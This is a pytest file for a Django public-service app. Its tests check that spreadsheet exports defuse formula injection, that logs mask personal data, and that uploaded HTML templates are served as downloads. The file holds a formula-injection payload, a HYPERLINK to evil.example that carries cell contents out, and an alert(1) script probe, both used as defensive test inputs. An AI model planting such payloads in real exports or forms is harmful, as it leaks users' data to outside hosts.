"""Exports carry no live formula, logs no personal data, files no type taken from their name (issue 19)."""

import io
import logging
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook, load_workbook

import motcua
from motcua.catalog.models import RequiredDocument
from motcua.core import spreadsheets
from motcua.core.logmask import MaskPersonalData, mask
from tests.dossiers.factories import applicant, receive

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


def cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_formula_prefix_is_risky():
    assert all(spreadsheets.is_risky(p + "1") for p in ("=", "+", "-", "@", "\t", "\r"))
    assert not spreadsheets.is_risky("Nguyễn Văn An")


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_a_risky_text_is_written_as_quoted_text(text):
    book = Workbook()
    book.active.append([text, 42, "bình thường"])
    written = cells(spreadsheets.to_bytes(book))
    assert [c.value for c in written] == [text, 42, "bình thường"]
    assert written[0].data_type == "s"
    assert written[0].quotePrefix
    assert not written[2].quotePrefix


def test_without_the_helper_the_same_text_is_a_formula():
    """What the helper prevents (so the test above can fail)."""
    book = Workbook()
    book.active.append([HOSTILE])
    buffer = io.BytesIO()
    book.save(buffer)
    assert cells(buffer.getvalue())[0].data_type == "f"


def test_write_only_rows_are_quoted_too():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("a")
    sheet.append(spreadsheets.safe_row(sheet, [HOSTILE, 7]))
    buffer = io.BytesIO()
    book.save(buffer)
    written = cells(buffer.getvalue())
    assert written[0].value == HOSTILE
    assert written[0].data_type == "s"


def test_the_register_export_writes_applicant_text_as_text(desk):
    receive(desk, applicant=applicant(commune=desk.commune(), address=HOSTILE))
    client = Client()
    client.force_login(desk.officer_a)
    today = timezone.localdate().strftime("%d/%m/%Y")
    response = client.get("/ho-so/so-theo-doi/", {"agency": desk.centre().pk, "start": today, "end": today})
    assert response.status_code == 200
    written = cells(response.content)
    assert not [c.coordinate for c in written if c.data_type == "f"]
    assert any(str(c.value).startswith("=HYPERLINK") and c.quotePrefix for c in written)


def test_every_module_that_builds_a_workbook_goes_through_the_helper():
    package = Path(motcua.__file__).parent
    for path in package.rglob("*.py"):
        text = path.read_text()
        if "Workbook(" in text and path.name != "spreadsheets.py":
            assert "spreadsheets." in text, (
                f"{path.relative_to(package)} builds a workbook without core.spreadsheets"
            )


# ------------------------------------------------------------------------------------------------ logs


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("verification code 123456 sent to an@example.vn", "verification code [code] sent to [email]"),
        ("phone 0912345678 or +84 912 345 678", "phone [phone] or [phone]"),
        ("id 001099012345, old CMND 123456789", "id [id-number], old CMND [id-number]"),
        ("token " + "ab12" * 10, "token [token]"),
        ("dossier 42 of centre 7 at 2026-03-02", "dossier 42 of centre 7 at 2026-03-02"),
        ("code XA-A-260302-0001", "code XA-A-260302-0001"),
    ],
)
def test_mask(raw, kept):
    assert mask(raw) == kept


def test_the_configured_handler_masks_messages_and_tracebacks():
    handler = next(
        h for h in logging.getLogger().handlers if any(isinstance(f, MaskPersonalData) for f in h.filters)
    )
    logger = logging.getLogger("motcua.test")
    stream = io.StringIO()
    probe = logging.StreamHandler(stream)
    probe.filters = handler.filters
    logger.addHandler(probe)
    try:
        try:
            raise ValueError("duplicate key (email)=(an@example.vn)")
        except ValueError:
            logger.exception("reset for %s with code %s failed", "0912345678", "654321")
    finally:
        logger.removeHandler(probe)
    out = stream.getvalue()
    assert "an@example.vn" not in out
    assert "0912345678" not in out
    assert "654321" not in out
    assert "[email]" in out
    assert "ValueError" in out


# ------------------------------------------------------------------------------------------------ files


def test_a_form_template_named_html_is_not_served_as_html(desk):
    document = RequiredDocument.objects.filter(version__procedure=desk.procedure).first()
    name = default_storage.save(
        "catalog/forms/mau.html", ContentFile(b"<html><script>alert(1)</script></html>")
    )
    RequiredDocument.objects.filter(pk=document.pk).update(form_template=name)  # published: no save()
    response = Client().get(f"/thu-tuc/mau/{document.pk}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
